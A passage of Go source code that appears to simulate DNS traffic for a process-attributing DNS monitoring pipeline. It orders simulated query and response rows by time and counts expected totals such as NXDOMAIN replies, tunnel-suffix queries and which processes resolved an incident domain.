		m.ask(nslookup, nslookup.threads[0], incidentNX, onlyA)
	})
	m.at(t0+int64(412*time.Second)+int64(200*time.Millisecond), func() {
		end := m.ask(nslookup, nslookup.threads[0], incidentNX, []uint16{dns.TypeAAAA})
		m.exit(nslookup, end+int64(time.Millisecond))
	})
	m.at(t0+int64(600*time.Second), func() { m.logout(s, m.now) })
}

// item is a row (or a process exit) waiting for its time.
type item struct {
	ts         int64
	seq        uint64
	row        *store.MsgRow
	send, recv *proc // whose identities the sides carry
	query      *item // the query this response answers
	isQuery    bool
	retry      bool // a retransmission
	outcome    int  // a query's: its response's rcode, -1 unanswered
	exit       *proc
}

// stage adds it to the lookup being built; its time is its first
// observation's.
func (m *model) stage(it *item) *item {
	if it.row != nil {
		r := it.row
		it.ts = r.Send.TsNs
		if !r.Send.Seen {
			it.ts = r.Recv.TsNs
		}
		if r.Send.Seen {
			m.stagedN++
		}
		if r.Recv.Seen {
			m.stagedN++
		}
	}
	m.staged = append(m.staged, it)
	return it
}

func (m *model) push(it *item) {
	m.seq++
	it.seq = m.seq
	heap.Push(&m.pending, it)
}

// written makes sure p has its processes row (its ancestors first, as the
// pipeline writes them) and returns its id.
func (m *model) written(p *proc) int64 {
	if p.id == 0 {
		if p.parent != nil {
			m.written(p.parent)
		}
		m.lastProc++
		p.id = m.lastProc
		m.out = append(m.out, op{kind: opProcess, id: p.id, proc: p.row()})
	}
	return p.id
}

// emitItem hands one row (or exit) to the writer, in time order, and
// counts it.
func (m *model) emitItem(it *item) {
	m.lastEmitted = max(m.lastEmitted, it.ts)
	if it.exit != nil {
		if it.exit.id != 0 {
			m.out = append(m.out, op{kind: opExit, id: it.exit.id, tsNs: it.ts})
		}
		return
	}
	r := it.row
	obs, unatt := 0, 0
	for _, s := range []struct {
		side *store.Side
		p    *proc
	}{{&r.Send, it.send}, {&r.Recv, it.recv}} {
		if !s.side.Seen {
			continue
		}
		obs++
		if s.side.Ident == nil {
			unatt++
		} else {
			s.side.ProcessID = m.written(s.p)
		}
	}
	m.lastMsg++
	r.ID = m.lastMsg
	if it.query != nil {
		r.AnswerTo(it.query.row)
		m.answered++
	}
	m.f.Messages += int64(obs)
	m.f.Unattributed += int64(unatt)
	m.f.Rows++
	if it.isQuery {
		m.f.Queries++
	} else if r.DNS.Rcode != nil && *r.DNS.Rcode == dns.RcodeNameError {
		m.f.NXDomain++
	}
	qname := ""
	if r.DNS.QName != nil {
		qname = *r.DNS.QName
		m.sawName(qname)
	}
	rrBase := m.f.RRs
	m.f.RRs += int64(len(r.DNS.Answers))
	for _, a := range r.DNS.Answers {
		m.sawName(a.Name)
		if a.Type == dns.TypeA && strings.HasPrefix(a.Data, m.probe) {
			m.f.Probe.CIDRRRs++
			if a.Data == m.f.Probe.IP {
				m.f.Probe.IPRRs++
			}
		}
	}
	if it.isQuery && !it.retry && strings.HasSuffix(qname, tunnelSuffix) {
		m.f.Tunnel.Queries++
	}
	if qname == incidentDomain || strings.HasSuffix(qname, "."+incidentDomain) {
		m.count(it, qname, rrBase)
	}
	m.out = append(m.out, op{kind: opMessage, msg: r, obs: obs, unatt: unatt, tsNs: it.ts})
}

func (m *model) sawName(n string) {
	m.names1[fnv(n)] = struct{}{}
}

// tallyKey and tallyRow follow who-resolved: per process and name, the
// client-side observations.
type tallyKey struct {
	qname string
	p     *proc
}

type tallyRow struct {
	Resolver
	first, last int64
	answers     []tallyAnswer
}

type tallyAnswer struct {
	data   string
	ts, rr int64
}

func (m *model) count(it *item, qname string, rrBase int64) {
	r := it.row
	get := func(p *proc) *tallyRow {
		k := tallyKey{qname, p}
		t := m.tally[k]
		if t == nil {
			t = &tallyRow{Resolver: Resolver{QName: qname, PID: int64(p.pid), Comm: p.comm, Exe: p.exe, UID: int64(p.uid),
				Ancestry: p.ancestryString(), Status: map[string]int{}}, first: 1<<63 - 1}
			m.tally[k] = t
		}
		return t
	}
	if r.Send.Seen && !r.Send.Server && r.Send.Ident != nil {
		t := get(it.send)
		t.Queries++
		t.first, t.last = min(t.first, r.Send.TsNs), max(t.last, r.Send.TsNs)
		st := "unanswered"
		if it.outcome >= 0 {
			st = dns.RcodeToString[it.outcome]
		}
		t.Status[st]++
	}
	if r.Recv.Seen && !r.Recv.Server && r.Recv.Ident != nil {
		t := get(it.recv)
		t.first, t.last = min(t.first, r.Recv.TsNs), max(t.last, r.Recv.TsNs)
		// who-resolved orders answers by when each was first received,
		// then by the first record carrying it.
		for i, a := range r.DNS.Answers {
			rr := rrBase + int64(i) + 1
			if j := slices.IndexFunc(t.answers, func(x tallyAnswer) bool { return x.data == a.Data }); j >= 0 {
				t.answers[j].ts, t.answers[j].rr = min(t.answers[j].ts, r.Recv.TsNs), min(t.answers[j].rr, rr)
			} else {
				t.answers = append(t.answers, tallyAnswer{a.Data, r.Recv.TsNs, rr})
			}
		}
	}
}

// facts completes what was counted.
func (m *model) facts() Facts {
	f := m.f
	f.Names = int64(len(m.names1))
	f.Processes = m.lastProc
	f.Unanswered = f.Queries - m.answered
	f.Stop = time.Unix(0, max(m.now, m.lastEmitted)).Add(time.Second).UTC()
	f.Tunnel.PID, f.Tunnel.Comm = int64(m.tunnel.pid), m.tunnel.comm
	for _, t := range m.tally {
		r := t.Resolver
		r.First, r.Last = time.Unix(0, t.first).UTC(), time.Unix(0, t.last).UTC()
		slices.SortFunc(t.answers, func(a, b tallyAnswer) int {
			if a.ts != b.ts {
				return cmpInt(a.ts, b.ts)
			}
			return cmpInt(a.rr, b.rr)
		})
		for _, a := range t.answers {
			r.Answers = append(r.Answers, a.data)
		}
		f.Incident.Resolvers = append(f.Incident.Resolvers, r)
	}
	slices.SortFunc(f.Incident.Resolvers, func(a, b Resolver) int {
		switch {
		case !a.First.Equal(b.First):
			return a.First.Compare(b.First)
		case a.QName != b.QName:
			return strings.Compare(a.QName, b.QName)
		case a.PID != b.PID:
			return cmpInt(a.PID, b.PID)
		}
		return strings.Compare(a.Comm, b.Comm)
	})
	return f
}

func cmpInt(a, b int64) int {
	switch {
	case a < b:
		return -1
	case a > b:
		return 1
	}
	return 0
}

// itemHeap orders items by time, then by when they were built.
type itemHeap []*item

func (h itemHeap) Len() int { return len(h) }
func (h itemHeap) Less(i, j int) bool {
	if h[i].ts != h[j].ts {
		return h[i].ts < h[j].ts
	}
	return h[i].seq < h[j].seq
}
func (h itemHeap) Swap(i, j int) { h[i], h[j] = h[j], h[i] }
func (h *itemHeap) Push(x any)   { *h = append(*h, x.(*item)) }
func (h *itemHeap) Pop() any {
	old := *h
	it := old[len(old)-1]
	old[len(old)-1] = nil
	*h = old[:len(old)-1]
	return it
}
